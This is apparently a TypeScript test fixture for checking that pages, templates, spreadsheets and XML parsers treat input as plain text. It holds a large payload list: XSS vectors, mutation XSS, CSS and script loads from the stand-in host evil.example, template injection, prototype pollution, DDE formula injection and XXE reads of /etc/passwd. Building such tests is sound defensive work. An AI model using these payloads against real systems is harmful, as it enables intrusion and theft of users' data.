/** What a payload does where it runs: pages of the tests look for it. */
const HIT = 'window.__xss=1';

const each = (of: readonly string[], make: (one: string) => string): string[] => of.map(make);
const words = (text: string): string[] => text.split(' ');

const scripts = [
  `<script>${HIT}</script>`, `<SCRIPT>${HIT}</SCRIPT>`, `<scr<script>ipt>${HIT}</scr</script>ipt>`, `<script src=//evil.example/x.js></script>`, `<script/x>${HIT}</script>`, `<script\n>${HIT}</script\n>`, `<script>${HIT}//`, `<<script>${HIT};//<</script>`,
  `<script type=module>${HIT}</script>`, `<script src="data:text/javascript,${HIT}"></script>`, `<script>eval(atob('d2luZG93Ll9feHNzPTE='))</script>`, `<script>Function\`${HIT}\`()</script>`, `<script async src=//evil.example></script>`, `<script xml:space="preserve">${HIT}</script>`,
  `<noscript><p title="</noscript><script>${HIT}</script>">`, `<template><script>${HIT}</script></template>`, `<script>/*<!--*/${HIT}</script>`, `<script charset="utf-7">+ADw-script+AD4-</script>`, `<script nonce="">${HIT}</script>`, `<importmap><script type=importmap>{"imports":{"x":"//evil.example"}}</script>`,
];

/** An event each, on an element that has it. */
const handlers = each([
  'img src=x onerror', 'svg onload', 'body onload', 'video src=x onerror', 'audio src=x onerror', 'video><source onerror', 'details open ontoggle', 'input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'button autofocus onfocus', 'a href=# onclick', 'div onmouseover',
  'marquee onstart', 'object data=x onerror', 'iframe onload', 'embed src=x onload', 'link rel=stylesheet href=x onerror', 'style onload', 'body onpageshow', 'body onhashchange', 'body onresize', 'body onscroll', 'div onwheel', 'div onpointerenter', 'div onpointerrawupdate', 'div oncontextmenu', 'div ondragstart draggable=true',
  'form onsubmit', 'form onreset', 'input oninput', 'input onchange', 'input type=search onsearch', 'input type=image src=x onerror', 'div contenteditable onpaste', 'div contenteditable onbeforeinput', 'div tabindex=0 onblur', 'div tabindex=0 onkeydown', 'div onanimationstart style=animation-name:x', 'div ontransitionend', 'audio onloadstart src=x', 'video oncanplay', 'video onplay autoplay',
  'track onload', 'dialog open oncancel', 'dialog open onclose', 'div popover onbeforetoggle', 'table background=x onload', 'frameset onload', 'bgsound onpropertychange', 'keygen autofocus onfocus', 'isindex type=image src=1 onerror', 'slot onslotchange', 'portal onload', 'canvas onclick', 'label onclick', 'summary onclick', 'th onmouseenter', 'area onfocus href=#', 'meter onclick', 'progress ondblclick', 'ruby onauxclick', 'wbr ongotpointercapture',
], (head) => `<${head}=${HIT}>`);

const drawings = [
  `<svg><script>${HIT}</script></svg>`, `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`, `<svg><set onend=${HIT} attributeName=x to=1 dur=1ms>`, `<svg><a xlink:href="javascript:${HIT}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${HIT}'/>#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></foreignObject></svg>`, `<svg><image href=x onerror=${HIT}>`, `<svg><title><script>${HIT}</script></title>`, `<svg><desc><![CDATA[</desc><script>${HIT}</script>]]>`, `<svg><style>*{background:url(//evil.example/a)}</style>`, `<svg/onload=${HIT}//`, `<svg\u00A0onload=${HIT}>`, `<svg><handler type="application/javascript">${HIT}</handler>`,
  `<svg><animateTransform onrepeat=${HIT} repeatCount=2 dur=1ms attributeName=transform>`, `<svg><discard onbegin=${HIT}>`, `<svg><filter><feImage href="//evil.example/b"/></filter></svg>`, `<svg viewBox="0 0 1 1"><mpath onload=${HIT}></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`, `<math href="javascript:${HIT}">x</math>`, `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${HIT}">x</maction></math>`, `<math><annotation-xml encoding="text/html"><script>${HIT}</script></annotation-xml></math>`, `<math><mi//xlink:href="data:x,<script>${HIT}</script>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
];

const breakouts = [
  `"><script>${HIT}</script>`, `'><script>${HIT}</script>`, `\`><script>${HIT}</script>`, `" onmouseover="${HIT}`, `' onmouseover='${HIT}`, `" autofocus onfocus="${HIT}" x="`, `--><script>${HIT}</script>`, `]]><script>${HIT}</script>`, `*/${HIT}/*`, `\\";${HIT}//`, `';${HIT};'`, `";${HIT};"`, `\`;${HIT};\``, `</title><script>${HIT}</script>`, `</textarea><script>${HIT}</script>`, `</style><script>${HIT}</script>`, `</option></select><img src=x onerror=${HIT}>`, `</td></tr></table><svg onload=${HIT}>`,
  `</script><script>${HIT}</script>`, `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`, `\\x3cscript\\x3e${HIT}\\x3c/script\\x3e`, `%3Cscript%3E${HIT}%3C%2Fscript%3E`, `%253Cscript%253E${HIT}`, `&lt;script&gt;${HIT}&lt;/script&gt;`, `&#60;script&#62;${HIT}`, `&#x3c;script&#x3e;${HIT}`, `&lt&#59;script&gt&#59;`, `<!--><img src=x onerror=${HIT}>-->`, `<![endif]--><script>${HIT}</script>`, `<?php echo '<script>' ?>`, `<% response.write("<script>") %>`, `<!DOCTYPE html><script>${HIT}</script>`, `0" style="position:fixed;inset:0" x="`, `"}]);${HIT}//`,
];

const addresses = [
  ...each(['javascript:', 'JaVaScRiPt:', ' javascript:', 'java&#09;script:', 'java&#10;script:', 'javascript&colon;', '&#106;avascript:', 'javascript://%0a', 'javascript:/*--></title>*/', 'vbscript:', 'livescript:', 'view-source:javascript:', 'feed:javascript:', 'jar:javascript:'], (scheme) => `<a href="${scheme}${HIT}">点这里</a>`),
  `<iframe src="javascript:parent.__xss=1">`, `<form action="javascript:${HIT}"><button>x`, `<button formaction="javascript:${HIT}">x`, `<object data="javascript:${HIT}">`, `<embed src="data:text/html,<script>parent.__xss=1</script>">`, `<iframe srcdoc="<script>parent.__xss=1</script>">`, `<iframe src="data:text/html;base64,PHNjcmlwdD4=">`, `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href="//evil.example/">`, `<link rel=import href=//evil.example>`, `<link rel=prefetch href=//evil.example>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<img src=//evil.example/a.png>`, `<img srcset="//evil.example/b.png 1x">`, `<picture><source srcset=//evil.example/c.png></picture>`, `<video poster=//evil.example/d.png>`, `<a ping=//evil.example href=#>x</a>`, `<area href="javascript:${HIT}" shape=default>`, `<applet code=x archive=//evil.example>`, `javascript:${HIT}`, `data:text/html,<script>${HIT}</script>`, `//evil.example/%2f..`, `https:evil.example`,
];

const styles = [
  `<style>@import '//evil.example/x.css'</style>`, `<style>*{background:url(javascript:${HIT})}</style>`, `<div style="background:url(//evil.example/e)">`, `<div style="width:expression(${HIT})">`, `<div style="-moz-binding:url(//evil.example/x.xml#x)">`, `<div style="behavior:url(//evil.example/x.htc)">`, `<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>`, `<style>body{display:none}</style>`, `<p style=position:fixed;inset:0;z-index:9999;background:red>`, `;background-image:url(//evil.example/g);`, `}*{color:transparent}`, `<style>:visited{background:url(//evil.example/h)}</style>`, `<link rel=stylesheet href="data:text/css,*%7Bcolor:red%7D">`, `<style>input[value^=a]{background:url(//evil.example/i)}</style>`, `\\00003c script`, `</style >${HIT}`,
];

const templates = [
  '{{7*7}}', '{{constructor.constructor(\'window.__xss=1\')()}}', '{{$on.constructor(\'window.__xss=1\')()}}', '{{{window.__xss=1}}}', '${window.__xss=1}', '#{window.__xss=1}', '<%= window.__xss=1 %>', '[[${7*7}]]', '[[7*7]]', '{% debug %}', '{%raw%}{{x}}', '@{7*7}', '*{7*7}', '~{x}', '${{7*7}}', '{{=7*7}}', '<#assign x=7>', '#set($x=7)', '@(7*7)', '$t(common.signIn)', '$t(pages.desk, {"count": 1})', '{{title}}', '{{count, number}}', '{{- html}}', '__proto__', 'constructor.prototype', '{"__proto__":{"x":1}}', '%s%s%n', '%(name)s', '{0}{1}', '$$', '$&$`$\'', ':name', '<span v-html="1">', '<div ng-app>{{1}}</div>', '<x-on:click="1">', 'x-data="{a:1}"',
];

const letters = [
  '＜script＞window.__xss=1＜/script＞', '‹script›alert(1)‹/script›', '﹤img src=x onerror=alert(1)﹥', '\u{1D5D4}lert', 'ｊａｖａｓｃｒｉｐｔ：alert(1)', '<\u200Bscript>', '<scr\u00ADipt>alert(1)</scr\u00ADipt>', '<ſcript>alert(1)</ſcript>', '<İMG src=x>', '<ımg src=x onerror=alert(1)>', '\u2028alert(1)', '\u2029<script>', '\u00C0\u00BCscript\u00C0\u00BE', '\u00E0\u0080\u00BCscript', '+ADw-script+AD4-alert(1)', '\u202E<script>', '\u2066<b>\u2069', '\u200F<img src=x>', '\uFEFF<script>', '\u0000<script>alert(1)', '<script\u0000>alert(1)', '\u0008<b>', '\u001B[31mred', 'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301', '👩‍👩‍👧‍👦<b>', '𠮷<i>', '\uFFFE<script>', '\uFDD0<b>', '﷽<u>', '\u3164<script>', 'a\r\nSet-Cookie: x=1', 'a\tb<script>',
];

const formulas = [
  '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=cmd|\'/C calc\'!A0', '=HYPERLINK("//evil.example","点")', '=IMPORTXML("//evil.example","//a")', '=WEBSERVICE("//evil.example")', '=DDE("cmd";"/C calc";"x")', '-2+3+cmd|\' /C calc\'!A0', '@A1', '\t=1+1', ' =1+1', '＝1+1', '＋1', '－1', '＠A1', '"=1+1"', '=\'[x]y\'!A1', ',=1+1', ';=1+1', '"\n=1+1', '=1+1";=2', '|calc', '%0A=1+1', '=INFO("directory")', '=1e9', '\'=1', '--1', '=-A1',
];

const markup = [
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', '<!ENTITY % x SYSTEM "//evil.example">%x;', '&xxe;', '&lol9;', '&#0;', '&#x1F;', '&amp;amp;', '<![CDATA[<script>window.__xss=1</script>]]>', ']]>', '<?xml-stylesheet href="//evil.example"?>', '<?xml version="1.0"?>', '</description></request><request>', '</value><value>x', '<xi:include href="file:///etc/passwd"/>', '<a xmlns="//evil.example"/>', '_x0041_', '_x005F_x0041_', '<f>1+1</f>', '<c t="e"/>', '</t></is></c><c><f>1</f></c>',
  '![x](//evil.example/a.png)', '[x](javascript:window.__xss=1)', '[x]: javascript:window.__xss=1', '<//evil.example>', '**b**<script>', '`<script>`', '~~~html\n<script>window.__xss=1</script>', '# <img src=x onerror=window.__xss=1>', '| a | b |\n|--|--|', '> <svg onload=window.__xss=1>', '[!注意] <b>', '@所有人 <at user_id="all">', '<@all>', '<font color="warning">x</font>',
];

const mutations = [
  ...each(words('listing xmp plaintext noembed noframes iframe textarea title style select'), (tag) => `<${tag}><img src="</${tag}><img src=x onerror=${HIT}>">`),
  `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`, `<math></br><style><!--</style><img title="--><img src=1 onerror=${HIT}>">`, `<noscript><style></noscript><img src=x onerror=${HIT}>`, `<p id="</p><img src=x onerror=${HIT}>">`, `<a id=x><a id=x name=cookie>`, `<form id=document><input name=cookie>`, `<img name=getElementById>`, `<div id=__proto__>`, `<input name=__xss value=1>`, `<iframe name=opener>`,
];

/** Signs that a spreadsheet, a page, a template, an XML reader or a terminal could take for something other than words: each a way of its own. */
export const PAYLOADS: readonly string[] = [...scripts, ...handlers, ...drawings, ...breakouts, ...addresses, ...styles, ...templates, ...letters, ...formulas, ...markup, ...mutations];

/** Asked of a page: whether one ran, and how many elements and attributes there are that only one of them could have made. */
export const TAKEN_FOR_MORE = `[typeof window.__xss, document.querySelectorAll('#root script, iframe, object, embed, marquee, img[src=x], base, meta[http-equiv=refresh], [onerror], [onload], [onfocus], [onclick], a[href^="java" i]').length]`;
